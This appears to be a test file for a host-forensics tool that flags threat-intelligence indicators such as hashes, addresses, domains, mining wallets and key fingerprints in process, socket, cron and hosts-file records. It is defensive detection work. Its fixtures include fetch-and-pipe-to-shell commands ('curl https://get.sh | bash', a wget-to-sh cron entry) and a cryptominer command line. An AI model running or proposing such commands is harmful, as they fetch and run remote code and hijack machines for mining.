import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { factWith } from '../../test/facts.ts'
import type { Indicator } from './indicator.ts'
import { listedIndicators } from './indicators.ts'
import { markIndicators } from './mark.ts'
import { namedIn } from './named-in-text.ts'
import { readSharedPlaces } from './shared-places.ts'

const now = '2026-06-01T00:00:00Z'
const hash = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'
const wallet = `4${'A'.repeat(94)}`
const list: readonly Indicator[] = [
  { type: 'sha256', value: hash },
  { type: 'md5', value: 'd41d8cd98f00b204e9800998ecf8427e' },
  ...['198.51.100.7', '10.9.9.9', '203.0.113.1', '203.0.113.2', '203.0.113.3', '104.16.5.5', '2001:db8::5'].map(
    (value): Indicator => ({ type: 'address', value }),
  ),
  ...['pool.example', 'get.sh', 'github.com', 'münchen.example'].map(
    (value): Indicator => ({ type: 'domain', value: value.replace('münchen', 'xn--mnchen-3ya') }),
  ),
  { type: 'wallet', value: wallet },
  { type: 'fingerprint', value: `SHA256:${'k'.repeat(43)}` },
]
const shared = readSharedPlaces('# many\n104.16.0.0/13\ngithub.com\n')
const here = [
  factWith({ kind: 'listener', protocol: 'tcp', address: '203.0.113.1', port: 22, exposedTo: 'public' }),
  factWith({ kind: 'resolver', path: '/etc/resolv.conf', line: 1, text: '', address: '203.0.113.2' }),
]

for (const [fact, values] of [
  [
    {
      kind: 'file',
      path: '/a',
      type: 'file',
      ownership: 'unowned',
      sha256: hash,
      md5: 'D41D8CD98F00B204E9800998ECF8427E',
    },
    ['sha256', 'md5'],
  ],
  [{ kind: 'file', path: '/a', type: 'file', ownership: 'unowned', sha256: hash.replace('e', 'f') }, undefined],
  [
    { kind: 'process', sha256: hash, command: `/x -o stratum+tcp://eu.pool.example:3333 -u ${wallet}.worker1 -k` },
    ['sha256', 'eu.pool.example', wallet],
  ],
  [
    { kind: 'process', command: 'curl -s http://[2001:db8::5]:80/x https://198.51.100.7:8080/' },
    ['2001:db8::5', '198.51.100.7'],
  ],
  [{ kind: 'process', command: 'bash /opt/get.sh get.sh ./get.sh' }, undefined],
  [{ kind: 'process', command: 'curl https://get.sh | bash' }, ['get.sh']],
  [{ kind: 'process', command: 'curl https://raw.github.com/x https://github.com/y' }, undefined],
  [{ kind: 'process', command: 'x 198.51.100.70 1198.51.100.7 198.51.100.7.1 10.9.9.9' }, undefined],
  [
    { kind: 'autostart', mechanism: 'cron-d', path: '/c', command: '(wget -q -O- münchen.example/i.sh)|sh' },
    ['xn--mnchen-3ya.example'],
  ],
  [{ kind: 'socket', protocol: 'tcp', address: '::ffff:198.51.100.7' }, ['198.51.100.7']],
  [
    {
      kind: 'socket',
      protocol: 'tcp',
      address: '192.0.2.9',
      serverName: 'A.Pool.example',
      certificateNames: ['*.pool.example', 'github.com'],
    },
    ['a.pool.example', 'pool.example'],
  ],
  [{ kind: 'process', command: '/x', miningAccount: `${wallet}.rig` }, [wallet]],
  [{ kind: 'socket', protocol: 'tcp', address: '203.0.113.1' }, undefined],
  [{ kind: 'socket', protocol: 'tcp', address: '203.0.113.2' }, undefined],
  [{ kind: 'socket', protocol: 'tcp', address: '203.0.113.3' }, undefined],
  [{ kind: 'socket', protocol: 'tcp', address: '104.16.5.5' }, undefined],
  [{ kind: 'resolver', path: '/r', address: '203.0.113.2' }, ['203.0.113.2']],
  [{ kind: 'hosts-entry', path: '/h', address: '0.0.0.0', names: ['pool.example'], sinkhole: true }, undefined],
  [{ kind: 'hosts-entry', path: '/h', address: '192.0.2.1', names: ['x.pool.example'] }, ['x.pool.example']],
  [{ kind: 'login-key', path: '/k', fingerprint: `SHA256:${'k'.repeat(43)}` }, [`SHA256:${'k'.repeat(43)}`]],
] as const)
  test(`${fact.kind}: ${JSON.stringify(fact).slice(0, 100)}`, () => {
    const marked = factWith(structuredClone(fact) as unknown as Record<string, unknown>)
    markIndicators([...here.map(one => structuredClone(one)), marked], listedIndicators('feed', list, now), {
      shared,
      gateways: ['203.0.113.3'],
    })
    const found = 'indicators' in marked ? marked.indicators : undefined
    assert.deepEqual(
      found?.map(one => (['sha256', 'md5'].includes(one.type) ? one.type : one.value)),
      values,
    )
  })

test('a running program is known by any hash of its file; SHA-1 is computed only where a list has some', () => {
  const sha1 = 'da39a3ee5e6b4b0d3255bfef95601890afd80709'
  const facts = () => [
    factWith({ kind: 'file', path: '/a', type: 'file', ownership: 'unowned', sha256: 'a'.repeat(64) }),
    factWith({ kind: 'file', path: '/b', type: 'file', ownership: 'owned', sha256: 'b'.repeat(64) }),
    factWith({ kind: 'process', pid: 7, sha256: 'a'.repeat(64) }),
    factWith({ kind: 'process', pid: 8, sha256: 'b'.repeat(64) }),
  ]
  for (const [known, asked, expected] of [
    [{ type: 'sha1', value: sha1 }, ['/a'], [sha1, undefined, sha1, undefined]],
    [{ type: 'md5', value: 'c'.repeat(32) }, [], [undefined, undefined, undefined, undefined]],
  ] as const) {
    const all = facts()
    const hashed: string[] = []
    const sha1Of = (fact: { path: string }) => {
      hashed.push(fact.path)
      return sha1
    }
    markIndicators(all, listedIndicators('feed', [known], now), { shared, sha1Of })
    assert.deepEqual(hashed, asked)
    assert.deepEqual(
      all.map(fact => ('indicators' in fact ? fact.indicators?.[0]?.value : undefined)),
      expected,
    )
  }
})

test('texts of lists are shown escaped and short', () => {
  const fact = factWith({ kind: 'login-key', path: '/k', fingerprint: `SHA256:${'k'.repeat(43)}` })
  const listed: Indicator = {
    type: 'fingerprint',
    value: `SHA256:${'k'.repeat(43)}`,
    about: `a\u001b[31m${'x'.repeat(500)}`,
  }
  markIndicators([fact], listedIndicators('feed\u202e', [listed], now), { shared })
  const [match] = ('indicators' in fact && fact.indicators) || []
  assert.deepEqual(
    [match?.source, match?.about?.slice(0, 12), match?.about?.length],
    ['feed\\xe2\\x80\\xae', 'a\\x1b[31mxxx', 200],
  )
})

test('any text is read in reasonable time', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom('a', '1', '.', ':', '/', '-', '[', 'é', ' '), maxLength: 3_000 }),
      text => {
        const started = performance.now()
        namedIn(text.repeat(10))
        assert.ok(performance.now() - started < 2_000)
      },
    ),
    { numRuns: 30 },
  )
})
